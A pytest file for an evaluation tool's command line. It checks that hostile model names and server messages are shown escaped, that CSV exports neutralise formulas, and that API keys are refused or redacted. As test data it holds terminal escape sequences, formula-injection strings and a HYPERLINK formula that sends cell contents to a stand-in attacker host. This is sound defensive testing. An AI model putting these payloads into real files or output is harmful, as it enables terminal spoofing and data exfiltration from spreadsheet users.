"""Text from a hostile server or dump cannot drive the terminal or a spreadsheet, and keys never
travel in a URL, an extra body, a stored file or a printed message (real server over HTTP, real
escape strings, the CSV read back with Python's csv module)."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from evaluator._safe_text import csv_cell, terminal_text
from evaluator.backends._credentials import Redactor, is_secret_name
from evaluator.testing.fake_openai_server import FakeOpenAIServer, FakeServerConfig

KEY = "sk-proj-Zq81LmN0pQrStUvWxYz2468"
ENV = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1", "COLUMNS": "200", "FAKE_KEY": KEY}
ESCAPES = "evil\x1b[2J\x1b]0;PWNED\x07\u202e"  # clear screen, set the window title, bell, right-to-left override
PROBLEMS = [{"id": f"p{i}", "problem": f"Problem {i}: find the answer.", "answer": i} for i in (1, 2)]


@pytest.fixture
def server() -> Iterator[FakeOpenAIServer]:
    fake = FakeOpenAIServer(FakeServerConfig(answers={f"Problem {i}:": i for i in (1, 2)}, think_words=4))
    fake.start()
    yield fake
    fake.stop()


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    (tmp_path / "two.jsonl").write_text("".join(json.dumps(p) + "\n" for p in PROBLEMS))
    return tmp_path


def evaluate(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "evaluator.cli", *args], cwd=cwd, env=ENV, capture_output=True,
                          text=True, timeout=120)


def run_on(server: FakeOpenAIServer, cwd: Path, *args: str) -> subprocess.CompletedProcess:
    return evaluate(cwd, "--model", "fake-r1", "--base-url", server.url, "--api-key-env", "FAKE_KEY",
                    "--dataset", "two.jsonl", "--k", "1", "--output-dir", "o", "--quiet", *args)


def _no_control(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, text


# ---------------------------------------------------------------- the terminal


def test_a_served_model_name_with_escapes_is_shown_escaped(server: FakeOpenAIServer, workdir: Path) -> None:
    server.config.served_model = ESCAPES
    result = run_on(server, workdir)
    assert result.returncode == 0, result.stderr
    _no_control(result.stdout + result.stderr)
    assert "check served_model" in result.stderr and "evil\\x1b[2J\\x1b]0;PWNED\\x07\\u202e" in result.stderr


def test_a_400_message_with_escapes_and_the_key_in_every_form_is_one_clean_line(
        server: FakeOpenAIServer, workdir: Path) -> None:
    def reject(authorization: str) -> str:
        token = authorization.removeprefix("Bearer ")
        basic = base64.b64encode(f":{token}".encode()).decode()
        return (f"{ESCAPES} bad credentials: {authorization}; as basic auth {basic}; "
                f"b64 {base64.b64encode(token.encode()).decode()}; echoed {token[:10]}...{token[-4:]}")

    server.config.reject = reject
    result = run_on(server, workdir)
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: request rejected (400)"), result.stderr
    _no_control(result.stderr)
    secrets = (KEY, base64.b64encode(KEY.encode()).decode().rstrip("="),
               base64.b64encode(f":{KEY}".encode()).decode().rstrip("="), KEY[-8:], KEY[8:16])
    assert not any(s in result.stderr for s in secrets), result.stderr
    assert "***" in result.stderr


@dataclass(frozen=True, kw_only=True)
class TextCase:
    note: str
    given: str
    shown: str


TEXT_CASES = [
    TextCase(note="plain text is unchanged", given="deepseek-r1 on aime-2024", shown="deepseek-r1 on aime-2024"),
    TextCase(note="CSI clear screen", given="a\x1b[2Jb", shown="a\\x1b[2Jb"),
    TextCase(note="OSC window title ended by BEL", given="\x1b]0;PWNED\x07", shown="\\x1b]0;PWNED\\x07"),
    TextCase(note="C1 CSI (0x9b) is a control too", given="a\x9b2Jb", shown="a\\x9b2Jb"),
    TextCase(note="a bidi override reorders what the reader sees", given="x\u202ey", shown="x\\u202ey"),
    TextCase(note="a line feed cannot forge a second line", given="ok\nerror: fake", shown="ok\\x0aerror: fake"),
    TextCase(note="non-ASCII letters stay", given="Gödel ∑ 模型", shown="Gödel ∑ 模型"),
]


@pytest.mark.parametrize("case", TEXT_CASES, ids=[c.note for c in TEXT_CASES])
def test_terminal_text(case: TextCase) -> None:
    assert terminal_text(case.given) == case.shown, case.note


# ---------------------------------------------------------------- spreadsheets


def test_csv_export_of_hostile_names_opens_as_text(workdir: Path) -> None:
    """A dump's model field and a dataset named after its file, both formulas, exported to CSV."""
    names = {"formula": '=HYPERLINK("http://evil.example/?"&A1,"click")', "plus": "+1+2", "at": "@SUM(A1:A9)",
             "minus": "-2+3"}
    dataset = workdir / "=1+2.jsonl"
    dataset.write_text("".join(json.dumps(p) + "\n" for p in PROBLEMS))
    rows = [{"model": name, "problem_id": p["id"], "response": f"\\boxed{{{p['answer']}}}"}
            for name in names.values() for p in PROBLEMS]
    (workdir / "dump.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    imported = evaluate(workdir, "score", "--import", "dump.jsonl", "--format", "jsonl", "--dataset", dataset.name,
                        "--output-dir", "o")
    assert imported.returncode == 0, imported.stderr
    runs = sorted(str(p) for p in (workdir / "o").iterdir())
    exported = evaluate(workdir, "export", *runs, "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    table = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert len(table) == len(names)
    for row in table:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert sorted(row["model"].removeprefix("'") for row in table) == sorted(names.values())
    assert {row["dataset"] for row in table} == {"'=1+2"}
    json_rows = json.loads(evaluate(workdir, "export", *runs, "--format", "json").stdout)["runs"]
    assert sorted(r["model"] for r in json_rows) == sorted(names.values()), "names are kept as names"


@pytest.mark.parametrize(("value", "cell"), [("=1+1", "'=1+1"), ("-x", "'-x"), ("@a", "'@a"), ("+a", "'+a"),
                                             ("\ra", "'\ra"), ("mock", "mock"), (-0.25, -0.25), (3, 3)])
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


# ---------------------------------------------------------------- keys


@pytest.mark.parametrize("url", ["http://user:{key}@127.0.0.1:{port}/v1", "http://127.0.0.1:{port}/v1?api-key={key}",
                                 "http://127.0.0.1:{port}/v1?token={key}", "http://127.0.0.1:notaport/v1"])
def test_a_url_with_a_credential_is_refused_before_anything_is_written(server: FakeOpenAIServer, workdir: Path,
                                                                       url: str) -> None:
    port = server.url.split(":")[2].split("/")[0]
    result = evaluate(workdir, "--model", "fake-r1", "--base-url", url.format(key=KEY, port=port), "--dataset",
                      "two.jsonl", "--k", "1", "--output-dir", "o", "--quiet")
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and KEY not in result.stderr
    assert "--api-key-env" in result.stderr or "not a usable URL" in result.stderr
    assert not (workdir / "o").exists() and not server.received


@pytest.mark.parametrize("body", [json.dumps({"provider": {"api_key": KEY}}),
                                  json.dumps({"headers": {"Authorization": f"Bearer {KEY}"}}),
                                  json.dumps({"extra": [{"accessToken": KEY}]})])
def test_a_key_inside_extra_body_is_refused(server: FakeOpenAIServer, workdir: Path, body: str) -> None:
    result = run_on(server, workdir, "--extra-body", body)
    assert result.returncode == 2 and "looks like a credential" in result.stderr, result.stderr
    assert KEY not in result.stderr and not (workdir / "o").exists()


def test_an_extra_body_without_secrets_still_runs(server: FakeOpenAIServer, workdir: Path) -> None:
    result = run_on(server, workdir, "--extra-body", '{"thinking": {"budget_tokens": 64}, "top_k": 20}')
    assert result.returncode == 0, result.stderr
    config = next((workdir / "o").iterdir()) / "config.json"
    assert KEY not in config.read_text()


@pytest.mark.parametrize(("name", "secret"), [("api_key", True), ("x-api-key", True), ("apiKey", True),
                                              ("access_token", True), ("client_secret", True), ("password", True),
                                              ("Authorization", True), ("budget_tokens", False),
                                              ("stop_token_ids", False), ("prompt_cache_key", False),
                                              ("reasoning_effort", False)])
def test_secret_field_names(name: str, secret: bool) -> None:
    assert is_secret_name(name) is secret


def test_the_redactor_hides_the_key_and_its_transforms() -> None:
    redact = Redactor(KEY)
    b64 = base64.b64encode(KEY.encode()).decode()
    text = (f"Bearer {KEY} | {b64} | {b64.rstrip('=')} | {base64.urlsafe_b64encode(KEY.encode()).decode()} | "
            f"{base64.b64encode((':' + KEY).encode()).decode()} | {KEY[:12]}****{KEY[-6:]} | sk-proj-Zq8%31")
    shown = redact(text)
    for secret in (KEY, b64.rstrip("="), KEY[-6:], KEY[8:12]):
        assert secret not in shown, shown
    assert redact("nothing secret here") == "nothing secret here"


@pytest.mark.parametrize(("url", "stored"), [
    (f"http://user:{KEY}@127.0.0.1:8000/v1", "http://127.0.0.1:8000/v1"),
    (f"http://127.0.0.1:8000/v1?api-key={KEY}&region=eu", "http://127.0.0.1:8000/v1?api-key=***&region=eu"),
    ("https://api.openai.com/v1", "https://api.openai.com/v1"),
])
def test_a_run_config_built_in_python_stores_no_credential_from_its_url(url: str, stored: str) -> None:
    """The CLI refuses these URLs; a RunConfig built in Python still never writes the key to config.json."""
    from evaluator.run.runner import public_url

    assert public_url(url) == stored


def test_a_received_run_with_an_escape_in_its_names_prints_clean_tables(tmp_path: Path) -> None:
    """`compare` and `export` print a received run's model and dataset names: never as terminal commands."""
    made = evaluate(tmp_path, "--model", "mock", "--k", "2", "--dataset", "demo", "--output-dir", "o", "--quiet")
    assert made.returncode == 0, made.stderr
    (run,) = (tmp_path / "o").iterdir()
    config = json.loads((run / "config.json").read_text())
    config["model_name"] = ESCAPES
    config["identity"]["dataset"] = f"demo{ESCAPES}"
    (run / "config.json").write_text(json.dumps(config))
    for command in (("compare", str(run)), ("export", str(run), "--format", "markdown")):
        result = evaluate(tmp_path, *command)
        assert result.returncode == 0, result.stderr
        _no_control(result.stdout + result.stderr)
        assert "PWNED" in result.stdout, "the name is shown, its escapes made visible"
